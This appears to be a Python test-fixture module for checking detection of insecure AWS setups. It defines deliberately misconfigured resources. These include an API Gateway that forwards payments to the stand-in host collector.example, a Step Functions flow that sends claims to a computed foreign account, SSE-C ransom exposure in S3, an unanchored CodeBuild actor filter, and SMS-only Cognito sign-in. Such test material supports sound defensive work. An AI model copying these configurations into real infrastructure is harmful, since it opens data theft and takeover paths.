"""Attacks on AWS: programs, data and names that are computed (2026-11-30, eighteenth set, written blind).

Properties by pulumi-aws 7.51.1. Read on 2026-11-30: docstrings of the SDK on blockedEncryptionTypes and
allowedFirstAuthFactors, and AWS CodeBuild "WebhookFilter" (the pattern is a regular expression; that it
is found anywhere in the number by Wiz's report on CodeBreach, 2026-01, as known). Everything else as known.
"""

import json
from dataclasses import replace

from ..blind import KEY, ME, TAGS, aws
from ..harness import UNKNOWN, Given
from ..idioms.aws_platform import bucket
from . import Attack
from .fields_awsa_compute import PLATFORM
from .fifteenth_aws_services import KEPT
from .tenth_aws import ESC, IDN, RES, R

ENC, RSL = ("FJ-ENC-", "FJ-RSL-", "FJ-ESC-"), ("FJ-RSL-", "FJ-ESC-", "FJ-EXP-")
POOL = {
    "name": "customers", "userPoolTier": "ESSENTIALS", "deletionProtection": "ACTIVE", "mfaConfiguration": "OPTIONAL",
    "softwareTokenMfaConfiguration": {"enabled": True}, "usernameAttributes": ["email"],
    "autoVerifiedAttributes": ["email"], "adminCreateUserConfig": {"allowAdminCreateUserOnly": True},
    "accountRecoverySetting": {"recoveryMechanisms": [{"name": "admin_only", "priority": 1}]}, "tags": TAGS,
    "passwordPolicy": {"minimumLength": 14, "requireLowercase": True, "requireNumbers": True, "requireSymbols": True,
                       "requireUppercase": True, "temporaryPasswordValidityDays": 3},
}  # fmt: skip
TASK = {
    "replicationTaskId": "payments", "replicationInstanceArn": f"arn:aws:dms:{R}:{ME}:rep:A", "tags": TAGS,
    "sourceEndpointArn": f"arn:aws:dms:{R}:{ME}:endpoint:A", "targetEndpointArn": f"arn:aws:dms:{R}:{ME}:endpoint:B",
    "migrationType": "cdc", "tableMappings": json.dumps({"rules": [{
        "rule-type": "selection", "rule-id": "1", "rule-name": "payments", "rule-action": "include",
        "object-locator": {"schema-name": "core", "table-name": "payments"}}]}),
}  # fmt: skip
SILENT = json.dumps({
    "Logging": {"EnableLogging": True}, "ValidationSettings": {"EnableValidation": False}, "ErrorBehavior": {
        "DataErrorPolicy": "IGNORE_RECORD", "DataTruncationErrorPolicy": "IGNORE_RECORD",
        "ApplyErrorInsertPolicy": "IGNORE_RECORD", "ApplyErrorUpdatePolicy": "IGNORE_RECORD",
        "ApplyErrorDeletePolicy": "IGNORE_RECORD"}})  # fmt: skip
FLOW = json.dumps({"QueryLanguage": "JSONata", "StartAt": "Tell", "States": {"Tell": {
    "Type": "Task", "Resource": "arn:aws:states:::sqs:sendMessage", "End": True, "Arguments": {
        "QueueUrl": "{% $join(['https://sqs.me-central-1.amazonaws.com', $string(333333333333 * 3), 'in'], '/') %}",
        "MessageBody": "{% $states.input.claim %}"}}}})  # fmt: skip


def _parameter(name: str, value: str) -> Given:
    return aws("rds/ParameterGroup", {"name": "core", "family": "postgres16", "tags": TAGS, "parameters": [
        {"name": "rds.force_ssl", "value": "1"}, {"name": name, "value": value}]})  # fmt: skip


def _with_own_keys() -> tuple[Given, ...]:
    """Returns a bucket that takes objects under keys that only their writer has."""
    sse = aws("s3/BucketServerSideEncryptionConfiguration", {"bucket": "awsuae-claims", "rules": [{
        "applyServerSideEncryptionByDefault": {"sseAlgorithm": "aws:kms", "kmsMasterKeyId": KEY},
        "bucketKeyEnabled": True, "blockedEncryptionTypes": ["NONE"]}]}, "sse", links={
            "bucket": ("bucket",)})  # fmt: skip
    return tuple(
        replace(sse if part.name == "sse" else part, name=KEPT if part.name == "bucket" else part.name,
                links=dict.fromkeys(part.links, (KEPT,)))
        for part in bucket("awsuae-claims"))  # fmt: skip


ATTACKS = (
    Attack("payments that are committed may be lost", RSL, (_parameter("synchronous_commit", "off"),),
        "minor", "the last ones are gone after a crash (PostgreSQL, synchronous_commit)"),
    Attack("records of payments outlive one broker only", RSL, (aws("msk/Topic", {
        "clusterArn": f"arn:aws:kafka:{R}:{ME}:cluster/core/1a2b3c4d-1111-2222-3333-444455556666-1", "name": "payments",
        "partitionCount": 6, "replicationFactor": 3, "configs": json.dumps({
            "min.insync.replicas": "1", "unclean.leader.election.enable": "true", "retention.ms": "604800000"})}),),
        "major", "a broker that lags becomes the leader and what it lacks is gone (Apache Kafka, topic configs)"),
    Attack("visitors read the program of the portal and its settings", ("FJ-EXP-", "FJ-ESC-"), (
        aws("elasticbeanstalk/Environment", {
            "name": "portal", "application": "portal", "solutionStackName": PLATFORM, "tags": TAGS, "settings": [
                {"namespace": "aws:ec2:vpc", "name": "ELBScheme", "value": "internal"},
                {"namespace": "aws:elasticbeanstalk:environment:proxy:staticfiles", "name": "/assets", "value": "/"},
            ]}),),
        "major", "the proxy hands out each file of the bundle (AWS Elastic Beanstalk, proxy:staticfiles)"),
    Attack("an API forwards payments to a host that its stage spells", RES, (
        aws("apigateway/Integration", {
            "restApi": UNKNOWN, "resourceId": UNKNOWN, "httpMethod": "POST", "integrationHttpMethod": "POST",
            "type": "HTTP_PROXY", "uri": "https://${stageVariables.part}.${stageVariables.zone}/in",
            "timeoutMilliseconds": 29000}, "forward"),
        aws("apigateway/Stage", {
            "restApi": UNKNOWN, "stageName": "live", "deployment": UNKNOWN, "xrayTracingEnabled": True, "tags": TAGS,
            "variables": {"part": "collector", "zone": "example"}, "accessLogSettings": {
                "destinationArn": f"arn:aws:logs:{R}:{ME}:log-group:/apigateway/payments",
                "format": "$context.requestId $context.status"}}, "live")),
        "critical", "collector.example has them (Amazon API Gateway, 'Using stage variables', HTTP integration)"),
    Attack("whoever takes over a telephone number signs in", IDN, (aws("cognito/UserPool", {
        **POOL, "signInPolicy": {"allowedFirstAuthFactors": ["PASSWORD", "SMS_OTP"]}}, protect=True),),
        "major", "a message to the number is the only factor (Amazon Cognito, SignInPolicy)"),
    Attack("a copy leaves out payments that do not fit and says nothing", RSL, (aws("dms/ReplicationTask", {
        **TASK, "replicationTaskSettings": SILENT}),),
        "major", "rows are missing and nobody compares (AWS DMS, 'Error handling task settings', IGNORE_RECORD)"),
    Attack("a workflow computes the account of the queue to which it sends claims", RES, (aws("sfn/StateMachine", {
        "name": "claims", "type": "STANDARD", "roleArn": f"arn:aws:iam::{ME}:role/claims", "definition": FLOW,
        "tags": TAGS, "encryptionConfiguration": {
            "type": "CUSTOMER_MANAGED_KMS_KEY", "kmsKeyId": KEY, "kmsDataKeyReusePeriodSeconds": 300},
        "loggingConfiguration": {"level": "ALL", "includeExecutionData": False, "logDestination":
                                 f"arn:aws:logs:{R}:{ME}:log-group:/aws/vendedlogs/states/claims:*"},
        "tracingConfiguration": {"enabled": True}}),),
        "critical", "three times 333333333333 is a stranger's account (Step Functions, 'Transforming data with "
        "JSONata')"),
    Attack("objects may be encrypted with keys that nobody else has", ENC, _with_own_keys(),
        "major", "whoever writes locks them in for a ransom (Amazon S3, BlockedEncryptionTypes NONE, SSE-C)"),
    Attack("builds trust each account whose number contains that of a colleague", ESC, (aws("codebuild/Webhook", {
        "projectName": "deploy", "buildType": "BUILD", "filterGroups": [{"filters": [
            {"type": "EVENT", "pattern": "PULL_REQUEST_CREATED,PULL_REQUEST_UPDATED"},
            {"type": "ACTOR_ACCOUNT_ID", "pattern": "755743"}]}]}),),
        "critical", "its pull requests run with the project's role (AWS CodeBuild, ACTOR_ACCOUNT_ID without ^ and $)"),
    Attack("a row makes a colleague administrator of the portal", IDN, (aws("dynamodb/TableItem", {
        "tableName": "portal-users", "hashKey": "pk", "item": json.dumps({
            "pk": {"S": "USER#k.saeed"}, "role": {"S": "admin"}, "permissions": {"SS": ["*"]}})}),),
        "major", "the program believes its table (Amazon DynamoDB, PutItem)"),
)  # fmt: skip
